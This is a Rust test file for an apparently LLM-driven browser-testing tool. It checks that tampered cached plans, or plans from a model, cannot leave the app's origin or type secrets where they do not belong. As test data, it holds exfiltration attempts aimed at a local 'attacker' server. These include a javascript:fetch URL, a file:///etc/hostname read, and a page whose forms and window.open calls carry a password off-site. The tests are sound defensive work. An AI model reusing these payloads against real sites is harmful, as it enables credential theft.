//! The plan trust boundary, tried as an attacker would: an app on one loopback origin, the
//! attacker's server on another. A plan from any road in (the committed cache, a model's
//! answer) and a page that tries to leave (a link, a form post, a script redirect) get nowhere:
//! the foreign server receives nothing, and no secret reaches a report or a file.

use serde_json::json;
use windup_engine::config::Overrides;
use windup_model::{CacheOutcome, FailureClass, Plan, ScenarioStatus};
use windup_testkit::fake_llm::{FakeLlm, Reply};

use crate::support::*;

use super::support::*;

const PASSWORD: &str = "pw-canary-4417 !&";
const DEPLOY_KEY: &str = "deploy-key-canary-9931";

/// The attacker's server: any path answers, and every request is counted.
fn foreign() -> Server {
    let s = pages();
    s.page(
        "/steal",
        "<!doctype html><title>Got it</title><h1>Got it</h1>",
    );
    s.page(
        "/collect",
        "<!doctype html><title>Got it</title><h1>Got it</h1>",
    );
    s
}

/// A project on `app` with one declared credential (ACME_ADMIN_PASSWORD) in `.env.local`, and
/// an undeclared CI_DEPLOY_KEY beside it.
fn project(app: &Server, toml: &str) -> Project {
    let p = Project::new(&app.base, toml);
    p.write(
        "e2e/manifest.yaml",
        "accounts:\n  admin:\n    password: ACME_ADMIN_PASSWORD\n",
    );
    p.write(
        ".env.local",
        &format!("ACME_ADMIN_PASSWORD=\"{PASSWORD}\"\nCI_DEPLOY_KEY={DEPLOY_KEY}\n"),
    );
    p
}

/// Writes `actions` as the verified, committed plan of scenario `id` (as a tampered commit or
/// a hostile `cache:write` token would).
fn commit_plan(p: &Project, id: &str, start_url: &str, actions: serde_json::Value) {
    p.scenario(id, "Sign in as the admin", start_url);
    let text = std::fs::read_to_string(p.root().join(format!("e2e/scenarios/{id}.yaml"))).unwrap();
    let scenario = windup_model::validate::scenario_from_yaml("s.yaml", &text, Some(id)).unwrap();
    let plan: Plan = serde_json::from_value(json!({
        "plan_version": "0.1", "scenario_id": id, "task": "Sign in as the admin",
        "start_url": start_url, "generated_by": "attacker/x", "actions": actions
    }))
    .unwrap();
    cache_as_verified(p.root(), &scenario, &plan);
}

fn require_cached() -> Overrides {
    Overrides {
        require_cached: true,
        ..Overrides::default()
    }
}

/// Every file under the project's `e2e/.windup`, as text.
fn stored(p: &Project) -> String {
    let mut out = String::new();
    let mut dirs = vec![p.root().join("e2e/.windup")];
    while let Some(d) = dirs.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            if e.path().is_dir() {
                dirs.push(e.path());
            } else {
                out.push_str(&String::from_utf8_lossy(&std::fs::read(e.path()).unwrap()));
            }
        }
    }
    out
}

#[test]
fn a_committed_plan_that_leaves_the_app_or_names_an_undeclared_secret_never_runs() {
    let app = pages();
    let evil = foreign();
    block_on(async {
        let p = project(&app, "");
        let attacks = [
            // The review's attack: another origin, a declared and an undeclared secret.
            json!([
                {"id": "a1", "type": "goto", "url": evil.base.join("steal").unwrap().as_str()},
                {"id": "a2", "type": "fill", "target": {"selector": "css=input"}, "value_ref": "ACME_ADMIN_PASSWORD"},
                {"id": "a3", "type": "fill", "target": {"selector": "css=input"}, "value_ref": "CI_DEPLOY_KEY", "expect": {"visible": "css=h1"}}
            ]),
            json!([{"id": "a1", "type": "goto", "url": format!("javascript:fetch('{}steal')", evil.base), "expect": {"visible": "css=h1"}}]),
            json!([{"id": "a1", "type": "goto", "url": "file:///etc/hostname", "expect": {"visible": "css=body"}}]),
            json!([{"id": "a1", "type": "fill", "target": {"selector": "label=\"Name\""}, "value_ref": "CI_DEPLOY_KEY", "expect": {"visible": "css=body"}}]),
        ];
        for (i, actions) in attacks.into_iter().enumerate() {
            let id = format!("attack-{i}");
            commit_plan(&p, &id, "/basic.html", actions);
            let report = p.run(require_cached()).await;
            let r = report
                .scenarios
                .iter()
                .find(|s| s.scenario_id == id)
                .unwrap();
            assert_eq!(
                (r.status, r.failure_class),
                (ScenarioStatus::Failed, Some(FailureClass::PlanInvalid)),
                "{id}: {:?}",
                r.message
            );
            let message = r.message.as_deref().unwrap();
            assert!(message.contains("trust boundary"), "{message}");
            assert!(r.actions.is_empty(), "{id}: no step ran: {:?}", r.actions);
            assert!(p.cached(&id).is_none(), "{id} left the cache");
            std::fs::remove_file(p.root().join(format!("e2e/scenarios/{id}.yaml"))).unwrap();
        }
        assert_eq!(
            evil.total_hits(),
            0,
            "the foreign origin received a request"
        );
        let stale = p.stale();
        assert_eq!(stale.len(), 4, "each kept as stale evidence: {stale:?}");
        let evidence = std::fs::read_to_string(&stale[0]).unwrap();
        assert!(
            evidence.contains("outside the trust boundary"),
            "{evidence}"
        );
        let all = stored(&p);
        assert!(!all.contains(PASSWORD) && !all.contains(DEPLOY_KEY));
    });
}

#[test]
fn a_refused_cached_plan_is_planned_afresh_when_a_provider_is_set() {
    let app = pages();
    let evil = foreign();
    block_on(async {
        let fake = FakeLlm::start();
        fake.push(Reply::Grounded(save_plan()));
        // "Sign in as the admin" quotes nothing the page shows: a closing call picks the proof.
        fake.push(Reply::Grounded(json!({"proofs": ["#text=\"Saved\""]})));
        let p = project(&app, &provider_toml(&fake, Wire::OpenAi, ""));
        commit_plan(
            &p,
            "save",
            "/basic.html",
            json!([{"id": "a1", "type": "goto", "url": evil.base.join("steal").unwrap().as_str(), "expect": {"visible": "css=h1"}}]),
        );
        let report = p.run(Overrides::default()).await;
        let r = single(&report);
        assert_eq!(
            (r.status, r.cache, r.llm_calls),
            (ScenarioStatus::Passed, CacheOutcome::StaleReplanned, 2),
            "{:?}",
            r.message
        );
        assert!(r.message.as_deref().unwrap().contains("trust boundary"));
        let cached = p.cached("save").unwrap();
        assert_eq!(cached["plan"]["actions"][0]["type"], "click");
        assert_eq!(evil.total_hits(), 0);
    });
}

/// An app page that tries to leave by a link, a form post carrying the password, and a script.
fn leaving_page(app: &Server, evil: &Server) {
    let steal = evil.base.join("steal").unwrap();
    let collect = evil.base.join("collect").unwrap();
    app.page(
        "/leave.html",
        &format!(
            r#"<!doctype html><title>Leave</title>
<a href="{steal}">Help</a>
<form method="post" action="{collect}"><label>Password <input name="password" type="password"></label><button>Sign in</button></form>
<button onclick="location.href='{steal}?via=script'">Go</button>
<a href="{steal}?via=tab" target="_blank">Open in a new tab</a>
<form method="post" action="{collect}?via=tab-form" target="_blank"><label>Secret <input name="secret" type="password"></label><button>Sign in elsewhere</button></form>
<button onclick="window.open('{steal}?via=open&pw=' + encodeURIComponent(document.querySelector('[name=secret]').value))">Share</button>
<script>setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<p>Later</p>'), 1500)</script>"#
        ),
    );
}

#[test]
fn a_link_a_form_post_and_a_script_cannot_take_the_page_off_the_app() {
    let app = pages();
    let evil = foreign();
    leaving_page(&app, &evil);
    block_on(async {
        let mut run = Run::new(&app.base);
        run.secrets
            .insert("ACME_ADMIN_PASSWORD".into(), PASSWORD.into());
        let tries = [
            json!([{"id": "a1", "type": "click", "target": {"selector": "role=link[name=\"Help\"]"}, "expect": {"visible": "text=\"Got it\""}}]),
            json!([
                {"id": "a1", "type": "fill", "target": {"selector": "label=\"Password\""}, "value_ref": "ACME_ADMIN_PASSWORD"},
                {"id": "a2", "type": "click", "target": {"selector": "role=button[name=\"Sign in\"]"}, "expect": {"visible": "text=\"Got it\""}}
            ]),
            json!([{"id": "a1", "type": "click", "target": {"selector": "role=button[name=\"Go\"]"}, "expect": {"url": "**/steal*"}}]),
        ];
        // New tabs (issue 33: a `target=_blank` form or `window.open` carried a typed
        // credential out): held by the browser's session before their first request.
        let tabs = [
            json!([{"id": "a1", "type": "click", "target": {"selector": "role=link[name=\"Open in a new tab\"]"}, "expect": {"visible": "text=\"Got it\""}}]),
            json!([
                {"id": "a1", "type": "fill", "target": {"selector": "label=\"Secret\""}, "value_ref": "ACME_ADMIN_PASSWORD"},
                {"id": "a2", "type": "click", "target": {"selector": "role=button[name=\"Sign in elsewhere\"]"}, "expect": {"visible": "text=\"Got it\""}}
            ]),
            json!([
                {"id": "a1", "type": "fill", "target": {"selector": "label=\"Secret\""}, "value_ref": "ACME_ADMIN_PASSWORD"},
                {"id": "a2", "type": "click", "target": {"selector": "role=button[name=\"Share\"]"}, "expect": {"visible": "text=\"Got it\""}}
            ]),
        ];
        for actions in tries.into_iter().chain(tabs) {
            let plan = plan_from_str(
                &json!({"plan_version": "0.1", "scenario_id": "s", "task": "t",
                    "start_url": "/leave.html", "generated_by": "x", "actions": actions})
                .to_string(),
            );
            let x = run.exec(browser(), &plan).await;
            let f = x.failure.expect("the page left the app");
            assert_eq!(f.class, FailureClass::NavigationFailed, "{}", f.message);
            let origin = evil.base.origin().ascii_serialization();
            assert!(f.message.contains(&origin), "{}", f.message);
            assert!(!f.message.contains(PASSWORD));
        }
        assert_eq!(
            evil.total_hits(),
            0,
            "the foreign origin received a request"
        );
        // Stopped before it was sent, even by a step that never follows the tab.
        let plan = plan_from_str(
            &json!({"plan_version": "0.1", "scenario_id": "s", "task": "t",
                "start_url": "/leave.html", "generated_by": "x", "actions": [
                    {"id": "a1", "type": "click", "target": {"selector": "role=link[name=\"Open in a new tab\"]"}},
                    {"id": "a2", "type": "wait_for", "target": {"selector": "text=\"Later\""}},
                    {"id": "a3", "type": "press", "key": "Tab", "expect": {"visible": "text=\"Later\""}}
                ]})
            .to_string(),
        );
        let x = run.exec(browser(), &plan).await;
        let f = x.failure.expect("the new tab is outside the app");
        assert_eq!(f.class, FailureClass::NavigationFailed, "{}", f.message);
        assert!(
            f.message.contains("(or a tab it opened) tried to load"),
            "{}",
            f.message
        );
        // At the click that opened it, or the step after it when the click ended first.
        assert!(
            matches!(f.action_id.as_deref(), Some("a1" | "a2")),
            "found before any step follows the tab: {:?}",
            f.action_id
        );
        assert_eq!(evil.total_hits(), 0, "the new tab's request was sent");
    });
}

#[test]
fn planning_stops_where_a_click_leaves_the_app_and_the_model_never_sees_the_page() {
    let app = pages();
    let evil = foreign();
    leaving_page(&app, &evil);
    block_on(async {
        let fake = FakeLlm::start();
        fake.push(Reply::Grounded(json!({"actions": [
            {"type": "fill", "target": {"ref": "@textbox \"Password\""}, "value_ref": "ACME_ADMIN_PASSWORD"},
            {"type": "click", "target": {"ref": "@button \"Sign in\""}}
        ], "complete": false})));
        let p = project(&app, &provider_toml(&fake, Wire::OpenAi, ""));
        p.scenario("sign-in", "Sign in as the admin", "/leave.html");
        let report = p.run(Overrides::default()).await;
        let r = single(&report);
        assert_eq!(
            r.failure_class,
            Some(FailureClass::NavigationFailed),
            "{:?}",
            r.message
        );
        assert_eq!(
            fake.requests().len(),
            1,
            "no call was made for the foreign page"
        );
        assert_eq!(evil.total_hits(), 0, "the password never left the browser");
        assert!(p.cached("sign-in").is_none());
    });
}

#[test]
fn credentials_are_typed_only_on_their_origins() {
    let app = pages();
    let sso = pages();
    sso.page(
        "/sso.html",
        "<!doctype html><title>SSO</title><label>Password <input type=password></label><p id=done hidden>ok</p>",
    );
    block_on(async {
        let sso_origin = sso.base.origin().ascii_serialization();
        // The sign-on origin is allowed for navigation, but not listed for the account.
        let p = project(
            &app,
            &format!("[planner]\nallowed_origins = [\"{sso_origin}\"]\n"),
        );
        let actions = json!([
            {"id": "a1", "type": "goto", "url": sso.base.join("sso.html").unwrap().as_str()},
            {"id": "a2", "type": "fill", "target": {"selector": "label=\"Password\""}, "value_ref": "ACME_ADMIN_PASSWORD", "expect": {"visible": "css=input"}}
        ]);
        commit_plan(&p, "sso", "/basic.html", actions.clone());
        let report = p.run(require_cached()).await;
        let r = single(&report);
        assert_eq!(
            r.failure_class,
            Some(FailureClass::PlanInvalid),
            "{:?}",
            r.message
        );
        assert!(
            r.message.as_deref().unwrap().contains("is not typed on"),
            "{:?}",
            r.message
        );

        // Listed for the account, the same plan types there.
        p.write(
            "e2e/manifest.yaml",
            &format!("accounts:\n  admin:\n    password: ACME_ADMIN_PASSWORD\n    origins: [\"{sso_origin}\"]\n"),
        );
        commit_plan(&p, "sso", "/basic.html", actions);
        let report = p.run(require_cached()).await;
        let r = single(&report);
        assert_eq!(r.status, ScenarioStatus::Passed, "{:?}", r.message);
    });
}

#[test]
fn a_password_in_the_final_url_is_masked_in_the_report_the_ledger_and_stale_evidence() {
    let app = pages();
    app.page(
        "/get-login.html",
        r#"<!doctype html><title>Sign in</title><form method="get" action="/welcome"><label>Password <input name="password" type="password"></label><button>Sign in</button></form>"#,
    );
    app.page(
        "/welcome",
        "<!doctype html><title>Welcome</title><h1>Welcome</h1>",
    );
    block_on(async {
        let p = project(&app, "");
        commit_plan(
            &p,
            "get",
            "/get-login.html",
            json!([
                {"id": "a1", "type": "fill", "target": {"selector": "label=\"Password\""}, "value_ref": "ACME_ADMIN_PASSWORD"},
                {"id": "a2", "type": "click", "target": {"selector": "role=button[name=\"Sign in\"]"}, "expect": {"visible": "text=\"Not there\""}}
            ]),
        );
        let report = p.run(require_cached()).await;
        let r = single(&report);
        assert_eq!(r.status, ScenarioStatus::Failed);
        let final_url = r.final_url.as_deref().unwrap();
        assert!(final_url.contains("/welcome?password=•••"), "{final_url}");
        let text = serde_json::to_string(&report).unwrap();
        let encoded: String = url::form_urlencoded::byte_serialize(PASSWORD.as_bytes()).collect();
        for secret in [PASSWORD, encoded.as_str()] {
            assert!(!text.contains(secret), "the report holds {secret}");
            assert!(!stored(&p).contains(secret), "e2e/.windup holds {secret}");
        }
        assert_eq!(p.stale().len(), 1, "the failed plan is kept as evidence");
    });
}
